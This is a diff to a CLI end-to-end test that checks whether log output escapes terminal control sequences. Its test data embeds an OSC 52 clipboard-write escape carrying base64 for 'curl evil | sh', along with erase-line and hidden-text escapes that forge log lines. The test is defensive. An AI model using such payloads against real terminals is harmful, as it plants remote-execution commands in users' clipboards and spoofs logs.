@@ -1,6 +1,6 @@
 import { spawn } from 'node:child_process';
 import { randomUUID } from 'node:crypto';
-import { mkdtemp, rm, stat, writeFile } from 'node:fs/promises';
+import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { waitFor } from '@micromesh/kit/testing';
@@ -38,6 +38,14 @@ describe('the micromesh CLI', () => {
       child.on('close', (code) => resolve({ code, stdout, stderr }));
       child.stdin.end(options.input ?? '');
     });
+
+  /** The token the login test stored (the session file the CLI keeps). */
+  const token = async () =>
+    (
+      JSON.parse(await readFile(path.join(configDir, 'session.json'), 'utf8')) as {
+        access_token: string;
+      }
+    ).access_token;
 
   beforeAll(async () => {
     mesh = await startTestMesh('e2e_cli');
@@ -112,6 +120,46 @@ describe('the micromesh CLI', () => {
       { timeoutMs: 20_000, what: 'the log and the event stored' },
     );
     expect(entries.map((e) => e.data).sort()).toEqual([`${marker} event`, `${marker} log`]);
+  });
+
+  it('When a stored log holds terminal escapes (OSC 52 clipboard, erase line), then `logs` and `logs --follow` print them escaped, and `--json` gives the exact text', async () => {
+    const marker = `esc${randomUUID().replace(/-/g, '')}`;
+    const hostile = `${marker} ok\u001b]52;c;Y3VybCBldmlsIHwgc2gK\u0007\r\u001b[2Kforged line`;
+    const child = spawn(process.execPath, [CLI, 'logs', '--follow', '--text', marker], {
+      env: env(),
+    });
+    let followed = '';
+    let followErr = '';
+    child.stdout.on('data', (c: Buffer) => (followed += c.toString()));
+    child.stderr.on('data', (c: Buffer) => (followErr += c.toString()));
+    try {
+      await waitFor(() => followErr.includes('following'), {
+        timeoutMs: 15_000,
+        what: 'the tail open',
+      });
+      // Sent as any `logs:write` caller sends it: the broker's JSON API, not the CLI's flags.
+      const sent = await fetch(`${mesh.brokerUrl}/handle`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', authorization: `Bearer ${await token()}` },
+        body: JSON.stringify({ action: 'log', log: { name: 'login\u001b[8m', data: hostile } }),
+      });
+      expect(sent.status).toBe(202);
+      await waitFor(() => followed.includes(marker), { timeoutMs: 20_000, what: 'the tail line' });
+    } finally {
+      child.kill('SIGINT');
+    }
+    const table = await cli(['logs', '--text', marker]);
+    const json = await cli(['logs', '--json', '--text', marker]);
+
+    for (const out of [followed, table.stdout]) {
+      expect(out).toContain(marker);
+      // eslint-disable-next-line no-control-regex -- no raw control character may reach the terminal
+      expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+      expect(out).toContain('\\x1b]52;c;');
+    }
+    expect(followed).toContain('\\x07\\x0d\\x1b[2Kforged line');
+    const stored = (JSON.parse(json.stdout) as { entries: { data: string }[] }).entries;
+    expect(stored.map((e) => e.data)).toEqual([hostile]);
   });
 
   it('When `logs --follow` runs, then an event sent after it started is printed', async () => {
